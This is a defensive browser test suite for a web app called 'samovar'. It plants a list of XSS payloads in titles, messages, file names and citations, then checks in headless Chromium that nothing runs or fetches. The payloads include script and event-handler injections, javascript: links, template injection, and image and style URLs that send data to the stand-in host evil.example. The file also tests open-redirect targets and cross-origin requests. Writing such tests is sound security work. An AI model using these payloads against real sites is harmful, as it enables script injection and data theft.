"""Hostile texts everywhere a person's or a document's words are shown, looked at in real Chromium: nothing runs, nothing is fetched from elsewhere."""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from serve_harness import PASSWORD, Running, running_server, text_document

from samovar.generate.scripted import ScriptedModel
from samovar.serve.access import private_source

pytestmark = pytest.mark.slow
CHROMIUM = os.environ.get("SAMOVAR_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"

ATTACKS = [
    "<script>alert(1);window.__xss=1</script>",
    "<img src=x onerror='window.__xss=2;alert(2)'>",
    "![cat](https://evil.example/pixel.png?secret=4711)",
    "<svg onload=window.__xss=3><a xlink:href='javascript:alert(3)'><text y=20>x</text></a></svg>",
    "[нажми](javascript:window.__xss=4)",
    "<iframe srcdoc='<script>parent.__xss=5</script>'></iframe>",
    "</script><script>window.__xss=6</script>",
    "`];window.__xss=7;//`${window.__xss=7}",
    "{{constructor.constructor('window.__xss=8')()}}",
    "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/bg.png)}</style>",
    "<link rel=stylesheet href=https://evil.example/y.css><base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus onfocus=window.__xss=9>x</button></form>",
    "<video src=https://evil.example/v.mp4 autoplay onerror=window.__xss=10></video><object data=https://evil.example/o></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<a href=\"https://evil.example/\" ping=https://evil.example/ping target=_self>x</a>",
    "[a]: https://evil.example 'x\" onmouseover=window.__xss=11 \"'\n[a]",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=12>",
    "&lt;script&gt;window.__xss=13&lt;/script&gt;",
]  # fmt: skip
ALL = "\n\n".join(ATTACKS)
SHORT = ATTACKS[0] + ATTACKS[1] + ATTACKS[8]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    model = ScriptedModel([f"Самовар изобрели в Туле. {ALL}"])
    with running_server(tmp_path_factory.mktemp("browser"), model=model, accounts=True, web=True) as running:
        poison(running)
        yield running


def poison(running: Running) -> None:
    """Put hostile words everywhere words can be put."""
    admin = running.people["admin"].user
    store = running.state.store
    running.put(
        text_document(
            SHORT[:200], f"Самовар изобрели в Туле. {ALL}", publisher=ATTACKS[1], licence=ATTACKS[0], origin=ATTACKS[1]
        ),
        text_document("private", f"Самовар. {ALL}", private_source(admin.id)),
        text_document("strange-source", f"Самовар. {ALL}", source=ATTACKS[1]),
    )
    conversation = store.conversations.create(admin.id, SHORT, "samovar")
    store.conversations.append(conversation.id, "user", ALL)
    found = [{"rank": 1, "score": 1.0, "passage": {"document_id": "x" * 32, "start": 0, "end": 5, "text": ALL}, "document": {"id": "x" * 32, "title": SHORT, "uri": "javascript:alert(1)", "source": SHORT, "language": "ru"}}]  # fmt: skip
    citation = {"number": 1, "document_id": "x" * 32, "start": 0, "end": 5, "quote": ALL, "title": SHORT, "uri": "javascript:alert(1)"}  # fmt: skip
    answer = {"text": ALL, "status": "answered", "citations": [citation], "found": found, "model": SHORT, "timings": {}, "notes": [ALL], "query": ALL, "sentences": []}  # fmt: skip
    message = store.conversations.append(conversation.id, "assistant", f"{ALL} [1]", model=SHORT, answer=answer)
    store.feedback.set(message.id, admin.id, -1, ALL)
    store.keys.create(admin.id, ATTACKS[1], ["ask"])
    store.sessions.start(admin.id, SHORT, "127.0.0.1")
    with running.client("admin") as client:
        for name in (f"{ATTACKS[1]}.txt", "<script>window.__xss=14</script>.txt"):
            files = {"file": (name, f"Самовар из файла. {ALL}".encode())}
            client.post("/api/v1/files", files=files, data={"purpose": "general"})
        client.post(
            "/api/v1/files", files={"file": (f"{ATTACKS[1]}.pdf", b"%PDF-1.4 broken")}, data={"purpose": "general"}
        )


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    """Debian's chromium, headless."""
    playwright = pytest.importorskip("playwright.sync_api", reason="the browser tests need playwright")
    if not os.path.exists(CHROMIUM):
        pytest.skip(f"no chromium at {CHROMIUM}")
    switches = [
        "no-sandbox",
        "disable-gpu",
        "disable-background-networking",
        "disable-component-update",
        "disable-sync",
        "no-first-run",
        "disable-quic",
    ]
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=[f"--{name}" for name in switches])
        yield browser
        browser.close()


class Watched:
    """A page whose every request, dialog and console line is remembered."""

    def __init__(self, chromium: Any, server: Running, person: str = "admin") -> None:
        self.server = server
        context = chromium.new_context()
        context.add_cookies([{"name": "samovar_session", "value": server.people[person].token, "url": server.url}])
        self.context = context
        self.page = context.new_page()
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.console: list[str] = []
        context.on("request", lambda request: self.requests.append(request.url))
        self.page.on("dialog", self._on_dialog)
        self.page.on("console", lambda message: self.console.append(message.text))

    def _on_dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def go(self, path: str) -> None:
        self.page.goto(self.server.url + path, timeout=60_000)
        self.page.wait_for_load_state("networkidle", timeout=60_000)

    def check(self) -> None:
        """Nothing ran, nothing left the machine, nothing had to be blocked."""
        assert self.page.evaluate("window.__xss") is None
        assert self.dialogs == []
        own = (self.server.url, self.server.url.replace("http", "ws", 1), "data:", "blob:", "about:")
        assert [url for url in self.requests if not url.startswith(own)] == []
        blocked = [line for line in self.console if "Content Security Policy" in line or "Refused to" in line]
        assert blocked == []
        assert (
            self.page.evaluate(
                "document.querySelectorAll('iframe,object,embed,base,form[action*=evil],img[src*=evil]').length"
            )
            == 0
        )
        assert (
            self.page.evaluate(
                "[...document.querySelectorAll('a')].filter(a => /^(javascript|data|vbscript):/i.test(a.href)).length"
            )
            == 0
        )
        assert self.page.url.startswith(self.server.url)


@pytest.fixture
def watched(chromium: Any, server: Running) -> Iterator[Watched]:
    page = Watched(chromium, server)
    yield page
    page.context.close()


def paths(server: Running) -> list[str]:
    admin = server.people["admin"].user
    conversation = server.state.store.conversations.list(admin.id)[-1]
    documents = [
        d.id for d in server.samovar.library.documents() if "evil" in server.samovar.library.document(d.id).text
    ]
    assert len(documents) >= 4
    found = ["/", f"/chat/{conversation.id}", "/library", "/library/ledger", "/about", "/admin", "/account"]
    found += [f"/document/{one}?start=0&end=40" for one in documents]
    found += [
        "/search?q=" + quote("самовар"),
        "/search?q=" + quote(SHORT),
        "/?q=" + quote(SHORT),
        f"/login?next={quote('javascript:alert(1)')}",
    ]
    return [*found, "/library?source=" + quote(ATTACKS[1]), "/chat/" + quote("<script>alert(1)</script>", safe="")]


def test_no_page_runs_or_fetches_what_is_written_on_it(server: Running, watched: Watched) -> None:
    for path in paths(server):
        watched.go(path)
        watched.check()
        page_text = watched.page.content()
        assert "<script>alert(1)" not in page_text.replace("&lt;", "<!") or "srcdoc" not in page_text


def test_an_answer_full_of_attacks_is_inert_while_it_comes(server: Running, watched: Watched) -> None:
    watched.go("/")
    box = watched.page.locator("textarea").first
    box.fill(f"Где изобрели самовар? {ATTACKS[1]}")
    box.press("Enter")
    watched.page.wait_for_url("**/chat/*", timeout=60_000)
    watched.page.wait_for_timeout(2_000)
    watched.check()
    watched.page.reload()
    watched.page.wait_for_load_state("networkidle")
    watched.check()


@pytest.mark.parametrize(
    "target",
    ["https://evil.example/", "//evil.example/", "/\\evil.example", "javascript:window.__xss=16", "/%09/evil.example"],
)
def test_a_login_leads_nowhere_else(chromium: Any, server: Running, target: str) -> None:
    """``?next=`` is where the login sends one; only to our own pages."""
    context = chromium.new_context()
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    try:
        page.goto(f"{server.url}/login?next={quote(target, safe='')}")
        page.wait_for_load_state("networkidle")
        page.locator("input:not([type=password]):not([type=hidden])").first.fill("reader")
        page.locator("input[type=password]").first.fill(PASSWORD)
        page.locator("input[type=password]").first.press("Enter")
        page.wait_for_url(lambda url: "/login" not in url, timeout=60_000)
        page.wait_for_load_state("networkidle")
        assert page.url.startswith(server.url + "/")
        assert page.evaluate("window.__xss") is None
        assert not [url for url in asked if "//evil" in url.partition("?")[0]]
    finally:
        context.close()


def test_another_sites_page_cannot_read_or_change_anything(chromium: Any, server: Running) -> None:
    """A page of another origin in the same browser, with the reader's cookie: fetch, form, script, frame, socket."""
    context = chromium.new_context()
    context.add_cookies([{"name": "samovar_session", "value": server.people["reader"].token, "url": server.url}])
    page = context.new_page()
    evil = f"http://localhost:{server.port}"  # another origin than 127.0.0.1, to the browser another site's
    page.route(
        f"{evil}/evil", lambda route: route.fulfill(body="<html><body>evil</body></html>", content_type="text/html")
    )
    try:
        page.goto(f"{evil}/evil")
        target = server.url
        read = page.evaluate(
            f"fetch('{target}/api/samovar/conversations', {{credentials: 'include'}}).then(r => r.text(), e => 'blocked')"
        )
        assert read == "blocked"
        status = page.evaluate(
            f"fetch('{target}/api/samovar/conversations', {{method: 'POST', mode: 'no-cors', credentials: 'include', headers: {{'Content-Type': 'text/plain'}}, body: '{{}}'}}).then(r => r.type, e => 'blocked')"
        )
        assert status in ("opaque", "blocked")
        framed = page.evaluate(
            f"""new Promise(done => {{ const f = document.createElement('iframe'); f.src = '{target}/'; f.onload = () => {{
                let seen = 'none'; try {{ seen = f.contentDocument ? 'readable' : 'none' }} catch (e) {{ seen = 'none' }}; done(seen) }}; document.body.append(f) }})"""
        )
        assert framed == "none"
        socket = page.evaluate(
            f"""new Promise(done => {{ const s = new WebSocket('{target.replace("http", "ws")}/_nicegui_ws/socket.io/?EIO=4&transport=websocket&client_id=x');
                s.onopen = () => done('open'); s.onerror = () => done('refused') }})"""
        )
        assert socket == "refused"
        reader = server.people["reader"].user
        assert server.state.store.conversations.list(reader.id) == []
    finally:
        context.close()


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/login",
        "/search",
        "/about",
        "/nowhere",
        "/_nicegui/x",
        "/v1/models",
        "/api/samovar/health",
        "/api/v1/models",
        "/api/samovar/openapi.json",
    ],
)
def test_every_answer_carries_the_headers(server: Running, path: str) -> None:
    cookie = {"Cookie": f"samovar_session={server.people['admin'].token}"}
    answer = httpx.get(server.url + path, headers=cookie, trust_env=False)
    policy = {p.split()[0]: p.split()[1:] for p in answer.headers["content-security-policy"].split("; ") if p}
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["referrer-policy"] == "same-origin"
    assert answer.headers["cross-origin-opener-policy"] == "same-origin"
    assert "camera=()" in answer.headers["permissions-policy"]
    assert answer.headers["x-request-id"]
    assert "server" not in answer.headers
    assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    assert policy["default-src"] in (["'none'"], ["'self'"])
    assert "'unsafe-inline'" not in policy.get("script-src", [])
    assert not any(s.startswith(("http", "*", "https:")) for sources in policy.values() for s in sources)
    if path.startswith(("/api/", "/v1/")):
        assert answer.headers["cache-control"] == "no-store"
        assert policy["default-src"] == ["'none'"]


def test_a_request_id_is_ours_unless_it_is_harmless(server: Running) -> None:
    client = server.client()
    assert client.get("/api/samovar/health", headers={"X-Request-ID": "abc-123"}).headers["x-request-id"] == "abc-123"
    for bad in ("<script>", "x" * 500, "a b", ""):
        assert client.get("/api/samovar/health", headers={"X-Request-ID": bad}).headers["x-request-id"] != bad


def test_an_uploaded_page_is_not_served_as_one(server: Running) -> None:
    with server.client("admin") as client:
        files = {
            "file": ("page.html", b"<html><script>window.__xss=15</script><p>" + "Самовар изобрели в Туле.".encode())
        }
        upload = client.post("/api/v1/files", files=files, data={"purpose": "general"}).json()
        answer = client.get(f"/api/v1/files/{upload['id']}/content")
    kind = answer.headers["content-type"]
    assert not kind.startswith(("text/html", "image/svg", "application/xhtml")) or "attachment" in answer.headers.get(
        "content-disposition", ""
    )
    assert "sandbox" in answer.headers["content-security-policy"]
